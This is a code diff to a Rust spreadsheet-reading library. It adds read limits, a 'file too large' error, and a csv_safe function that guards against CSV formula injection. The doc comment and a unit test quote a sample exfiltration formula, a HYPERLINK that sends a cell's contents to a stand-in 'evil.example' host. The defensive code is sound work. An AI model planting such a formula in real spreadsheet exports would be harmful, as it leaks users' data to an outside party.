@@ -19,6 +19,7 @@
 pub mod bench;
 pub mod form;
 pub mod import;
+pub mod limits;
 pub mod payroll;
 pub mod read;
 pub mod results;
@@ -26,10 +27,28 @@ mod style;
 
 pub use form::{FilledForm, FormHeader, Signature, Signatures};
 pub use import::{Imported, Proposal, import_table, propose_mapping};
-pub use read::{CellIssue, IssueKind, Table, TableRow, read_csv, read_path, read_xlsx};
+pub use limits::Limits;
+pub use read::{
+    CellIssue, IssueKind, Table, TableRow, read_csv, read_csv_with, read_path, read_path_with,
+    read_xlsx, read_xlsx_with,
+};
 
 use rust_decimal::Decimal;
+use std::borrow::Cow;
 use std::fmt;
+
+/// A text cell made safe for a CSV file that Excel or another spreadsheet will open
+/// (OWASP "CSV injection"): text starting with `=`, `+`, `-`, `@`, a tab or a carriage
+/// return gets a leading `'`, so it is shown as text and never run as a formula
+/// (`=HYPERLINK("http://evil.example/?x="&A1,"李娜")` stays the visible text). Use it for
+/// text columns only: a number column's `-12.50` must stay a number.
+pub fn csv_safe(s: &str) -> Cow<'_, str> {
+    if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        Cow::Owned(format!("'{s}"))
+    } else {
+        Cow::Borrowed(s)
+    }
+}
 
 /// Excel's column letters for a 0-based column: 0 → `A`, 25 → `Z`, 26 → `AA`.
 pub fn col_letter(col: usize) -> String {
@@ -46,7 +65,7 @@ pub fn col_letter(col: usize) -> String {
 
 /// A sheet name as Excel writes it in a reference: quoted when it holds anything but
 /// letters, digits, `_` and `.` (`'My Sheet'!C7`, `Sheet1!C7`, `考核数据!C7`).
-fn sheet_ref(sheet: &str) -> String {
+pub(crate) fn sheet_ref(sheet: &str) -> String {
     if !sheet.is_empty()
         && sheet
             .chars()
@@ -135,6 +154,10 @@ pub enum OfficeError {
     /// Problems with cells: merged cells in the data area, bad values, duplicates …
     #[error("{}", render_problems(.0))]
     Cells(Vec<CellProblem>),
+    /// The file is beyond one of the readers' [`Limits`]; the message names the limit and
+    /// the file, part, line or cell (`考核数据!ZZZZZZ2`).
+    #[error("{zh} / {en}")]
+    TooLarge { zh: String, en: String },
     /// Reading the workbook failed part-way.
     #[error("读取 .xlsx 失败 / cannot read the .xlsx: {0}")]
     Read(String),
@@ -181,6 +204,18 @@ mod tests {
         assert_eq!(col_letter(701), "ZZ");
         assert_eq!(col_letter(702), "AAA");
         assert_eq!(col_letter(16383), "XFD");
+    }
+
+    #[test]
+    fn csv_safe_neutralises_formulas_only() {
+        let evil = r#"=HYPERLINK("http://evil.example/?x="&A1,"李娜")"#;
+        assert_eq!(csv_safe(evil), format!("'{evil}"));
+        for s in ["+1", "-1", "@SUM(A1)", "\tx", "\rx"] {
+            assert_eq!(csv_safe(s), format!("'{s}"), "{s:?}");
+        }
+        for s in ["李娜", "E001", "", "a=b", " =1", "'=1"] {
+            assert!(matches!(csv_safe(s), Cow::Borrowed(b) if b == s), "{s:?}");
+        }
     }
 
     #[test]
